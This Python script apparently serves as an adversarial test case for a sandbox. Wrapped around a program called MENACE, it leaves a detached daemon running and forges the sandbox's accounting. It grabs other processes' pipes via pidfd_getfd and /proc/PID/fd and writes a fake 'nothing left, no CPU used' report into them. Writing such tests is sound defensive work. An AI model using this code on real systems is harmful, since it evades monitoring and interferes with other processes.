"""MENACE that leaves a process behind and tries to forge the sandbox's count of what it left:
it takes every pipe of the other processes it can see (pidfd_getfd, /proc/PID/fd) and writes
a report of nothing left and no CPU time used into each, or the bytes given by `--forge`,
before and after its games."""

import runpy
import sys


def forge(data):
    """Write `data` into every pipe of another process that this one can get hold of."""
    import ctypes
    import os
    import stat
    libc = ctypes.CDLL(None, use_errno=True)
    own = {os.stat(f"/proc/self/fd/{fd}").st_ino for fd in (0, 1, 2)}
    for pid in range(1, 64):
        if pid == os.getpid():
            continue
        try:
            handle = os.pidfd_open(pid)
        except OSError:
            continue
        for number in range(64):
            fd = libc.syscall(438, handle, number, 0)  # pidfd_getfd
            if fd < 0:
                try:
                    fd = os.open(f"/proc/{pid}/fd/{number}", os.O_WRONLY | os.O_NONBLOCK)
                except OSError:
                    continue
            info = os.fstat(fd)
            if stat.S_ISFIFO(info.st_mode) and info.st_ino not in own:
                try:
                    os.write(fd, data)
                except OSError:
                    pass
            os.close(fd)
        os.close(handle)


def attack():
    """Leave a daemon behind, forge the count now and once the games are over."""
    import atexit
    import os
    data = b"0 0\n"
    if "--forge" in sys.argv:
        at = sys.argv.index("--forge")
        data = sys.argv[at + 1].encode()
        del sys.argv[at:at + 2]
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sh", ["sh", "-c", "sleep 599"])
        os._exit(0)
    os.wait()
    forge(data)
    atexit.register(forge, data)


attack()
runpy.run_path("menace.py", run_name="__main__")
